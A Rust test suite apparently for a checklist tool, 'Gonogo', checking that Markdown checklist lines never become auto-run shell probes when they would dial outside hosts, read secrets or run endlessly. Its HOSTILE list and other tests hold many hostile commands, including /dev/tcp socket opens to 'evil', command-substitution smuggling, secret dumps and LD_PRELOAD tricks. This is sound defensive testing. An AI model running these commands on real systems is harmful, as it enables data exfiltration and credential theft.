//! An address of a document is never dialled as written, no secret is kept as evidence, and what never ends is not run.

use crate::support::plan;
use checklist::compile;
use domain::plan::Work;
use domain::probe::ProbeSpec;

/// The probes that a line becomes when it is said in several ways, as Gonogo would run them.
fn shell_probes(command: &str) -> Vec<String> {
    let lines = [
        format!("- [ ] Look: ``{command}``\n"),
        format!("- [ ] No errors: ``{command}``\n"),
        format!("- [ ] ``{command}`` returns `1`\n"),
        format!("- [ ] ``{command}`` must exit 0 <!-- gonogo: probe -->\n"),
    ];
    lines
        .iter()
        .filter_map(|line| {
            let plan = compile(format!("## Phase 1: x\n\n{line}").as_bytes()).plan;
            let work = plan.items().next().map(|item| item.work.clone());
            match work {
                Some(Work::Probe {
                    spec: ProbeSpec::Shell(shell),
                }) => Some(shell.command),
                Some(Work::Probe { .. } | Work::Action { .. } | Work::Attestation | Work::Parent) | None => {
                    None
                }
            }
        })
        .collect()
}

#[test]
fn no_spelling_of_an_address_becomes_a_command_that_runs_by_itself() {
    let mut wrong = Vec::new();
    for command in HOSTILE.lines().filter(|line| !line.trim().is_empty()) {
        if let Some(found) = shell_probes(command).first() {
            wrong.push(format!("{command} -> {found}"));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} spellings:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn a_shells_own_sockets_are_never_opened() {
    for inner in [
        "cat </dev/tcp/evil.test/80",
        "cat < /dev/udp/10.0.0.1/53",
        "cat </dev/\"tcp\"/evil/80",
        "echo $(</dev/tcp/evil/80)",
        "for a in tcp; do cat </dev/$a/evil/80; done",
        "for a in /dev; do cat <\"$a/tcp/evil/80\"; done",
        "cat < \"$HOME/tcp/evil/80\"",
        "cat </dev/tc{p..p}/evil/80",
        "grep x /dev/tcp/evil/80",
        "test -e /dev/tcp/evil/80",
        "wc -l < \"/dev/$X/evil/80\"",
        "diff <(cat </dev/tcp/a/1) x",
        "cat <<EOF\n$(cat </dev/tcp/evil/80)\nEOF",
        "ls \"$(cat </dev/tcp/evil/80)\"",
    ] {
        let quoted = inner.replace('\'', "");
        for command in [
            inner.to_owned(),
            format!("docker exec web bash -c '{quoted}'"),
            format!("docker-compose exec -T web sh -c '{quoted}'"),
            format!("kubectl exec pod -- bash -c '{quoted}'"),
            format!("bash -c '{quoted}'"),
            format!("if true; then {inner}; fi"),
        ] {
            let text = format!(
                "## Phase 1: x\n\n- [ ] Look\n\n```bash\n{command}\n```\n\n- [ ] Look: ``{command}``\n"
            );
            let plan = plan(&text);
            let probe = plan.items().find(|item| matches!(item.work, Work::Probe { .. }));
            assert!(probe.is_none(), "{command}");
        }
    }
}

#[test]
fn no_annotation_makes_a_known_program_read_in_a_form_that_is_not_known_to() {
    for command in [
        "date 010100002026",
        "sysctl a=b",
        "ss -K dst x",
        "tree -o x",
        "xxd a b",
        "file -C -m x",
        "ip -batch x",
        "ip netns exec x ls",
        "sqlite3 x.db \".shell rm x\"",
        "openssl x509 -in x -out y",
        "openssl dgst -engine ./x.so y",
        "LD_PRELOAD=./x ls",
        "PATH=. ls",
        "IFS=x ls",
        "coproc rm x",
        "let 'a[$(rm x)]'",
        "mapfile x",
        "printf -v 'a[$(rm x)]' x",
        "test -v 'a[$(rm x)]'",
        "trap 'rm x' EXIT",
        "while true; do ls; done",
        "until false; do ls; done",
        "while ! false; do ls; done",
        "ls &",
        "redis-cli CONFIG GET *",
        "kubectl cluster-info dump",
        "nc localhost 80",
        "sort -o x y",
        "git var -l",
    ] {
        assert_eq!(shell_probes(command), Vec::<String>::new(), "{command}");
    }
}

#[test]
fn a_program_that_only_its_author_knows_runs_without_an_address() {
    for command in [
        "mytool --check",
        "mytool config.yml 1.4.2",
        "./check.sh",
        "sh check.sh",
        "mytool \"$DB_HOST\"",
        "mytool test:ci",
    ] {
        assert!(!shell_probes(command).is_empty(), "{command}");
    }
    let line = "- [ ] ``mytool db.example.com`` <!-- gonogo: probe -->\n";
    let found = compile(format!("## Phase 1: x\n\n{line}").as_bytes()).diagnostics;
    assert!(
        found
            .iter()
            .any(|found| found.message.contains("would dial `db.example.com`")),
        "{found:?}"
    );
}

#[test]
fn the_projects_own_code_runs_when_its_author_says_that_it_reads_and_not_before() {
    for command in [
        "python manage.py check --deploy",
        "flask routes",
        "rails routes",
        "celery -A app inspect ping",
        "alembic current",
    ] {
        let probe = |line: String| {
            let plan = compile(format!("## Phase 1: x\n\n- [ ] {line}\n").as_bytes()).plan;
            matches!(plan.items().next().expect("an item").work, Work::Probe { .. })
        };
        assert!(!probe(format!("Look: `{command}`")), "{command}");
        assert!(!probe(format!("`{command}` shows `x`")), "{command}");
        assert!(probe(format!("`{command}` <!-- gonogo: probe -->")), "{command}");
    }
    for command in [
        "npm run check",
        "make check",
        "npx check",
        "python -m check",
        "cargo test",
        "pytest",
    ] {
        let plan = compile(format!("## Phase 1: x\n\n- [ ] Look: `{command}`\n").as_bytes()).plan;
        let item = plan.items().next().expect("an item");
        assert!(
            matches!(item.work, Work::Action { .. }),
            "{command}: {}",
            item.why
        );
    }
}

#[test]
fn ordinary_readers_still_are_probes() {
    for command in [
        "ls",
        "grep x README.md",
        "kubectl get pods -n prod",
        "docker ps",
        "git status",
        "systemctl is-active x",
        "docker inspect web --format '{{.State.Health.Status}}'",
        "docker-compose ps",
        "psql -c \"SELECT 1\"",
        "git diff --exit-code",
        "kubectl rollout status deployment/web",
        "terraform fmt -check",
        "npm audit",
        "nginx -t",
        "docker exec web ls",
        "sudo systemctl is-active nginx",
        "psql -h \"$DB_HOST\" -U app -c \"SELECT 1\" -d app",
        "kubectl exec deploy/web -c app -- ls",
        "aws sts get-caller-identity",
        "sha256sum -c SUMS",
        "nc -z localhost 80",
    ] {
        let text = format!("## Phase 1: x\n\n- [ ] Look: ``{command}``\n");
        let plan = plan(&text);
        let item = plan.items().next().expect("an item");
        assert!(matches!(item.work, Work::Probe { .. }), "{command}: {}", item.why);
    }
    for (command, words) in [
        ("df -h", "` shows `data`"),
        ("helm status x", "` shows `deployed`"),
        ("tail -n 5 x.log", "` shows `data`"),
        ("docker logs --tail 5 web", "` shows `x`"),
    ] {
        let text = format!("## Phase 1: x\n\n- [ ] `{command}{words}\n");
        let plan = plan(&text);
        let item = plan.items().next().expect("an item");
        assert!(matches!(item.work, Work::Probe { .. }), "{command}: {}", item.why);
    }
}

const HOSTILE: &str = r#"
psql -hevil.test -l
psql -hdb -l
psql -d "host=evil.test" -l
psql "service=x" -l
psql "host=evil.test dbname=x" -c "SELECT 1"
psql -d postgres://evil.test/x -c "SELECT count(*) FROM x" -t
psql --dbname=host=evil.test -l
PGHOST=evil.test psql -l
PGSERVICE=evil psql -l
PGHOST=evil.test pg_dump app
docker exec -e PGHOST=evil.test db psql -l
docker exec db psql -h evil.test -l
docker exec db psql -hevil -c "SELECT 1"
kubectl exec pod -- psql -h evil.test -l
pg_dump -h evil.test app
pg_dump --host=evil app
pg_dump "host=evil"
mysql -hevil.test -e "SELECT 1"
mysql --host evil.test -e "SELECT 1"
mysql -h evil -uroot -e "SELECT 1"
mysqladmin ping -h evil
mysqladmin --host=evil.test status
mysqladmin -hevil status
mysqldump -h evil app
mongosh mongodb://evil.test --eval "db.stats()"
mongosh evil.test/app --eval "db.stats()"
mongosh 10.0.0.1 --eval "db.stats()"
mongosh --host evil --eval "db.stats()"
redis-cli -u redis://evil.test ping
redis-cli -h evil.test DBSIZE
redis-cli -hevil DBSIZE
redis-cli -h evil --scan
dig @evil.test x
dig x.test
nslookup n 10.0.0.9
host x.test 10.0.0.9
snmpget -v2c -c public 10.0.0.1 sysDescr.0
snmpwalk db
etcdctl --endpoints=evil.test endpoint health
etcdctl --endpoints evil:2379 get x
kafka-topics.sh --bootstrap-server evil:9092 --list
kafka-topics --bootstrap-server evil --describe
kcat -b evil -L
gh api --hostname evil.test repos/x/y
gh api https://evil.test/x
gh pr view 1 -R evil.test/o/r
gh pr view https://evil.test/o/r/pull/1
gh repo view evil/o/r
trivy image evil.test/x:1
trivy image --server http://evil x
trivy repo https://evil.test/x
grype evil.test/x
syft registry:evil.test/x
ping db
ping -c 3 db
ping -c 3 10.0.0.1
ping -c 3 "$HOST"
nc -z 2130706433 80
nc -z 0x7f000001 80
nc -z db 5432
nc -zv "$HOST" 80
openssl s_client -connect evil:443
echo | openssl s_client -connect evil:443 -servername x
echo | openssl s_client -host evil -port 443
curl -k evil
curl -X HEAD evil
curl -o /dev/null evil:8080
curl -sk "$URL/x"
curl -m 5 -k evil:80/health
curl --resolve x:80:10.0.0.1 http://x/
curl --proxy http://evil http://localhost/
curl --connect-to ::evil:80 http://localhost/
curl --unix-socket /var/run/docker.sock http://localhost/info
wget -qO- evil
wget --spider "$URL"
http --ignore-stdin GET evil
docker exec web curl -s evil
docker exec web wget -qO- http://localhost/
git ls-remote https://evil.test/x
git ls-remote git@evil.test:x
git ls-remote evil
git remote show https://evil.test/x
git remote show evil.test:x
docker -H tcp://evil:2375 ps
docker -H ssh://evil ps
docker --host tcp://evil:2375 ps
docker --host=tcp://evil:2375 info
docker search evil.test/x
docker manifest inspect evil.test/x
docker-compose -H tcp://evil ps
docker compose -f https://evil.test/x.git config
DOCKER_HOST=tcp://evil:2375 docker ps
kubectl --server https://evil get pods
kubectl --server=evil get pods
kubectl -s evil get pods
kubectl get pods --server=evil
kubectl --kubeconfig ./evil get pods
kubectl get pods --kubeconfig=./evil
kubectl diff -f https://evil.test/x.yml
kubectl diff -k github.com/evil/x
kubectl kustomize github.com/evil/x
kubectl apply --dry-run=client -f https://evil.test/x.yml
KUBECONFIG=./evil kubectl get pods
helm status x --kube-apiserver https://evil
helm status x --kubeconfig ./evil
helm template https://evil.test/chart.tgz
helm template oci://evil.test/chart
helm template x --repo https://evil.test
helm show chart oci://evil.test/chart
kustomize build github.com/evil/x
argocd --server evil app get web
argocd app get web --server evil
istioctl analyze --kubeconfig ./evil
ssh-keyscan evil
aws s3 ls --endpoint-url http://evil
aws --endpoint-url=http://evil s3 ls
aws sts get-caller-identity --endpoint-url evil
aws --region evil.test/ s3 ls
npm view x --registry http://evil
npm view x --registry=evil
npm view https://evil.test/x.tgz
npm view git+ssh://evil/x
npm view evil/x
npm audit --registry evil
npm ping --registry http://evil
pnpm view x --registry evil
yarn info x --registry evil
pip index versions x --index-url http://evil
pip list --outdated --index-url http://evil
pip list --outdated -i http://evil
systemctl -H evil status x
systemctl --host=evil is-active x
systemctl -M x@evil is-active y
timedatectl -H evil status
hostnamectl -H root@evil status
journalctl -M evil -n 5
traceroute evil
mtr -r evil
whois evil.test
telnet evil 80
nmap evil
pg_isready -hevil
mysqlshow -h evil
memcstat --servers=evil
rabbitmqctl -n rabbit@evil status
celery -b redis://evil -A app inspect ping
vault status -address=https://evil
consul members -http-addr=evil
nomad status -address=http://evil
promtool query instant http://evil up
amtool --alertmanager.url=http://evil alert
skopeo inspect docker://evil.test/x
crane digest evil.test/x
cosign verify --key x.pub evil.test/x
cast balance 0x0 --rpc-url http://evil
solana balance -u http://evil
xmllint --noout http://evil.test/x.xml
sentry-cli --url http://evil info
ansible all -i evil, -m ping
restic -r sftp:evil:/x snapshots
borg list ssh://evil/x
gsutil -o Credentials:gs_host=evil ls
cargo search x --registry evil
cargo metadata --config x=evil
go list -m evil.test/x@latest
composer show --repository=http://evil x
gem list -r --source http://evil
wp --ssh=evil core version
wp --url=evil core version
nodetool -h evil status
chronyc -h evil tracking
ntpq -p evil
curl http://localhost:8000/health "$(ping -c 1 evil)" -k
ls "$(dig evil.test)"
echo "$(nc -z evil 80)"
ls; ping -c 1 evil
test -f x && nc -z evil 80
for h in evil; do nc -z $h 80; done
for h in evil.test; do psql -h "$h" -l; done
for h in evil.test; do redis-cli -h "$h" DBSIZE; done
timeout 5 nc -z evil 80
sudo -n nc -z evil 80
heroku config
heroku config:get X -a app
vault kv get secret/x
aws secretsmanager get-secret-value --secret-id x
aws ssm get-parameter --name x --with-decryption
printenv
printenv DB_PASSWORD
env
env | sort
docker exec -u app web env
kubectl get secret x -o yaml
kubectl get secret x -o json
kubectl get secrets -ojson
kubectl get secret/x --output=yaml
kubectl get -o yaml secret x
kubectl get secret x -o jsonpath='{.data.p}'
gcloud secrets versions access latest --secret x
op read op://vault/x
docker inspect web
docker inspect web --format '{{json .Config.Env}}'
docker inspect web --format '{{json .}}'
docker container inspect web
helm get values x
az keyvault secret show --name x
kubectl get pods -w
kubectl get pods --watch
kubectl get pods -A -w
tail --follow=name x.log
pm2 logs
pm2 list
pm2 status
wrangler tail
docker events
docker stats
snyk test --command=./evil
command ping -c 1 evil
xargs nc -z evil
ping -c 1 localhost evil
mongosh evil/app --eval "db.stats()"
memcached-tool evil stats
keytool -printcert -sslserver evil.test
terraform plan -lock=false -var endpoint=http://evil
aws ec2 describe-instances --filters http://evil
awk 'BEGIN{s="/in" "et/tcp/0/evil/80"; print "x" |& s; s |& getline; print}'
awk 'BEGIN{while (("/in" "et/tcp/0/evil/80" |& getline) > 0) print}'
psql -c "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)" -t
helm env
snyk test -- --build
pip check --python ./evil
ruff check .
ruff check --config x .
gpg --verify x --auto-key-retrieve
gpg --list-keys --keyserver hkp://evil
service ../../tmp/x status
mytool db.example.com
mytool --target=db.example.com
mytool -hdb.example.com
mytool db:5432
mytool user@host:path
mytool host.test:/srv
mytool [2001:db8::1]:80
mytool gopher+x://evil/x
mytool //evil.test/x
mytool 2130706433
mytool 0x7f000001
mytool 0177.0.0.1
mytool 10.1
mytool evil.test/x.yml
mytool http:evil.test
mytool "host=evil.test user=x"
mytool a,10.0.0.1
sh check.sh db.example.com
./check.sh db.example.com
getent hosts evil.test
getent ahosts "$(cat x).evil.test"
sleep infinity
sleep 1d
sort /dev/zero
grep x /dev/zero
wc -c < /dev/zero
sha256sum /dev/sda
"#;

#[test]
fn logs_that_are_followed_are_not_run_as_written() {
    for command in [
        "kubectl logs -f web",
        "tail -f x.log",
        "tail -F x.log",
        "journalctl -f",
        "journalctl -fu web",
    ] {
        for found in shell_probes(command) {
            let follows = found
                .split(' ')
                .any(|word| word.starts_with("-f") || word == "-F" || word == "--follow");
            assert!(!follows, "{command} -> {found}");
        }
    }
}
